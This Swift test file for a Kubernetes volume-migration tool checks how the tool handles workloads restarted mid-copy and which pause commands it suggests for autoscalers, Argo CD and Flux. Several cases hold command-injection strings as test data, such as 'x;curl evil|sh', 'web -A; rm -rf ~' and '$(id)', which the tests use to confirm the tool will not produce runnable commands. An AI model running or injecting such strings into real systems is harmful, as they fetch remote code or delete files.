import ClusterSimulator
import FoundationEssentials
import Kubernetes
import Synchronization
import Testing

@testable import Migration

@Suite("Somebody starts a workload again that is stopped")
struct OthersScaleTests {
    @Test("once, during the copy: the copy is repeated, and nothing is lost")
    func once() {
        var scene = Others()
        scene.migrate(
            MigrationTests.once(when: { $1.isCopying }) { try $0.scale(Others.deployment, to: 1) }
        )
        scene.expectSuccess(saying: ["uses the claims again; the copy is repeated"])
    }

    @Test("with another scale: that is the one that it has afterwards", arguments: [true, false])
    func newScale(isBetweenRuns: Bool) throws {
        var scene = Others()
        scene.forgiven = ["is at zero without its scale", "has not its scale of 1"]
        if isBetweenRuns {
            scene.world = try scene.world.cut { $0.isCopying }
            scene.change { try $0.scale(Others.deployment, to: 2) }
            scene.migrate()
        } else {
            scene.migrate(
                MigrationTests.once(when: { $1.isCopying }) { try $0.scale(Others.deployment, to: 2) }
            )
        }
        scene.expectSuccess(saying: ["stopped: scale 2 written down and set to 0"])
        #expect(scene.world.cluster.replicas(Others.deployment) == 2)
    }

    @Test("at each copy: the unit is given back, and says who may have done it")
    func again() {
        var scene = Others()
        scene.migrate(
            always(when: { $1.isCopying && $1.replicas(Others.deployment) == 0 }) {
                try $0.scale(Others.deployment, to: 1)
            }
        )
        scene.expectFailure(saying: ["which has spoilt 3 copies; who does that can't be told"])
        scene.migrate()
        scene.expectSuccess()
    }

    @Test("at once, as an operator does: it is told before long, and a later run migrates it")
    func atOnce() {
        var scene = Others()
        scene.migrate(
            always(when: { $1.replicas(Others.deployment) == 0 }) { try $0.scale(Others.deployment, to: 1) }
        )
        scene.expectFailure(saying: ["was started again by somebody, 3 times, as soon as it was stopped"])
        scene.migrate()
        scene.expectSuccess()
    }

    @Test("between the copy and the deletion of the source claim: what it writes then is not lost", arguments: 1...20)
    func afterCopy(requests: Int) {
        var scene = Others()
        let seen = Mutex(0)
        scene.migrate(
            MigrationTests.once(when: { request, cluster in
                guard request != nil, cluster.isCopied else { return false }
                return seen.withLock {
                    $0 += 1
                    return $0 == requests
                }
            }) { try $0.scale(Others.deployment, to: 1) }
        )
        if scene.runs.last?.report?.claims.first?.result == .failed {
            scene.expectFailure(saying: ["uses or has used the claims again since they were copied"])
            scene.migrate()
        }
        // At the very moment of the deletion nobody can tell whether something was written.
        if scene.story.contains("is on the volume") { scene.expectKept() } else { scene.expectSuccess() }
    }

    @Test("and removes its mark: it is started all the same")
    func unmarked() {
        var scene = Others()
        scene.migrate(
            MigrationTests.once(when: { $1.isCopying }) {
                try $0.update(Others.deployment) { $0[path: ["metadata", "annotations", Marks.scale]] = nil }
            }
        )
        scene.forgiven = ["is at zero without its scale"]
        scene.expectSuccess(saying: ["somebody has removed its mark"])
    }

    @Test("no, deletes it: its claims are migrated all the same")
    func deleted() {
        var scene = Others()
        scene.migrate(MigrationTests.once(when: { $1.isCopying }) { try $0.delete(Others.deployment) })
        // Nobody is left to be seen ready.
        scene.forgiven = ["Deployment web has not its scale", "nobody was seen ready"]
        scene.expectSuccess()
    }

    @Test("by making it anew: its pods are named, and a later run migrates it")
    func madeAnew() {
        var scene = Others()
        scene.migrate(
            MigrationTests.once(when: { $1.isCopying }) { cluster in
                var object = cluster.get(Others.deployment) ?? .null
                try cluster.delete(Others.deployment)
                object["metadata"] = ["name": "web"]
                object["status"] = nil
                object[path: ["spec", "replicas"]] = 1
                try cluster.create(.deployments, namespace: "shop", object)
            }
        )
        scene.expectFailure(saying: ["of the ReplicaSet web-", "goes on; stop or delete it, and run again"])
        scene.migrate()
        scene.expectSuccess()
    }
}

@Suite("Who scales a workload")
struct ManagersTests {
    /// What is known of a Deployment, and what is said of it.
    struct Case: Sendable, CustomTestStringConvertible {
        var testDescription: String
        var metadata: JSON = [:]
        /// What an autoscaler scales, where there is one.
        var autoscaler: String?
        var note: String?

        init(
            _ description: String,
            _ metadata: JSON = [:],
            autoscaler: String? = nil,
            says note: String?
        ) {
            testDescription = description
            self.metadata = metadata
            self.autoscaler = autoscaler
            self.note = note
        }
    }

    static let cases = [
        Case("nobody", says: nil),
        Case(
            "an autoscaler",
            autoscaler: "web",
            says: "is scaled by the HorizontalPodAutoscaler auto, which leaves it alone while it is stopped"
        ),
        Case("the autoscaler of another workload", autoscaler: "other", says: nil),
        Case(
            "Argo CD, by its annotation",
            ["annotations": ["argocd.argoproj.io/tracking-id": "store:apps/Deployment:shop/web"]],
            says: "is scaled by the Argo CD application store, which may start it while it is stopped; to pause that: "
                + "argocd app set store --sync-policy none"
        ),
        Case(
            "Argo CD, with the application in a namespace of its own",
            ["annotations": ["argocd.argoproj.io/tracking-id": "team_store:apps/Deployment:shop/web"]],
            says:
                "is scaled by the Argo CD application team/store, which may start it while it is stopped; to pause that: "
                + "argocd app set team/store --sync-policy none"
        ),
        Case(
            "an annotation of Argo CD that was copied from another object",
            ["annotations": ["argocd.argoproj.io/tracking-id": "store:example.com/Shop:shop/web"]],
            says: nil
        ),
        Case(
            "Argo CD, by its label",
            ["labels": ["argocd.argoproj.io/instance": "store"]],
            says: "is scaled by the Argo CD application store, which may start it while it is stopped; to pause that: "
                + "argocd app set store --sync-policy none"
        ),
        Case(
            "a Kustomization of Flux",
            [
                "labels": [
                    "kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": "flux-system",
                ]
            ],
            says:
                "is scaled by the Flux Kustomization flux-system/apps, which may start it while it is stopped; to pause "
                + "that: flux suspend kustomization apps -n flux-system"
        ),
        Case(
            "an application of a name that a shell would run",
            ["annotations": ["argocd.argoproj.io/tracking-id": "x;curl evil|sh:apps/Deployment:shop/web"]],
            says:
                "is scaled by the Argo CD application x;curl evil|sh, which may start it while it is stopped; to pause "
                + "that: no command is given, since \"x;curl evil|sh\" is no name of an object"
        ),
        Case(
            "an application of a name that a command would take for a flag",
            ["annotations": ["argocd.argoproj.io/instance": "--grpc-web"]],
            says: "is scaled by the Argo CD application --grpc-web, which may start it while it is stopped; to pause "
                + "that: no command is given, since \"--grpc-web\" is no name of an object"
        ),
        Case(
            "a Kustomization of a namespace that is none",
            [
                "labels": [
                    "kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": "Flux_System",
                ]
            ],
            says:
                "is scaled by the Flux Kustomization Flux_System/apps, which may start it while it is stopped; to pause "
                + "that: no command is given, since \"Flux_System\" is no name of an object"
        ),
        Case(
            "a HelmRelease of Flux",
            ["labels": ["helm.toolkit.fluxcd.io/name": "web", "helm.toolkit.fluxcd.io/namespace": "shop"]],
            says: "is scaled by the Flux HelmRelease shop/web, which may start it while it is stopped; to pause that: "
                + "flux suspend helmrelease web -n shop"
        ),
    ]

    @Test("is said before anything stops", arguments: cases)
    func note(case: Case) {
        var scene = Others()
        scene.change { cluster in
            try cluster.update(Others.deployment) { object in
                for (key, value) in `case`.metadata.object ?? [:] { object[path: ["metadata", key]] = value }
            }
            guard let target = `case`.autoscaler else { return }
            try cluster.create(
                .horizontalPodAutoscalers,
                namespace: "shop",
                [
                    "metadata": ["name": "auto"],
                    "spec": [
                        "scaleTargetRef": ["apiVersion": "apps/v1", "kind": "Deployment", "name": .string(target)],
                        "maxReplicas": 3,
                    ],
                ]
            )
        }
        let notes = scene.discover().notes
        #expect(notes.map(\.message) == [`case`.note].compactMap(\.self))
        #expect(notes.allSatisfy { $0.resource == "Deployment shop/web" && $0.namespace == "shop" })
    }

    @Test("is said of KEDA by its autoscaler, with a command only where the name that it gives can be one")
    func kedaByItsAutoscaler() throws {
        let deployment: JSON = [
            "metadata": ["name": "web", "namespace": "shop", "uid": "u", "resourceVersion": "1"],
            "spec": ["replicas": 1, "template": ["metadata": [:], "spec": [:]]],
        ]
        let object = try JSONDecoder().decode(WorkloadObject.self, from: deployment.text)
        let workload = try #require(Workload(object, of: .deployments))
        for (name, isPasteable) in [("web", true), ("web -A; rm -rf ~", false), ("$(id)", false), ("a/b/c", false)] {
            let autoscaler: JSON = [
                "metadata": [
                    "name": "keda-hpa-web", "namespace": "shop", "uid": "v", "resourceVersion": "1",
                    "ownerReferences": [
                        [
                            "apiVersion": "keda.sh/v1alpha1", "kind": "ScaledObject", "name": .string(name), "uid": "w",
                            "controller": true,
                        ]
                    ],
                ],
                "spec": ["scaleTargetRef": ["apiVersion": "apps/v1", "kind": "Deployment", "name": "web"]],
            ]
            let scalers = Scalers(
                autoscalers: [try JSONDecoder().decode(HorizontalPodAutoscaler.self, from: autoscaler.text)]
            )
            let pause = scalers.managers(of: workload).compactMap(\.pause)
            #expect(
                pause == [
                    isPasteable
                        ? "kubectl annotate scaledobject web -n shop autoscaling.keda.sh/paused=true"
                        : "no command is given, since \"\(name)\" is no name of an object"
                ]
            )
        }
    }

    @Test("needs nobody's permission: whoever may not list autoscalers goes on without")
    func forbidden() {
        let world = Scenario.deployment.world(alone: true)
        let run = world.migrate(
            interceptor: { request, _ in
                guard request.target.contains("/horizontalpodautoscalers") else { return nil }
                let body: JSON = [
                    "kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 403, "reason": "Forbidden",
                    "message": "horizontalpodautoscalers.autoscaling is forbidden",
                ]
                return .answer(Response(status: 403, body: body.text))
            }
        )
        #expect(run.report?.succeeded == true)
    }
}
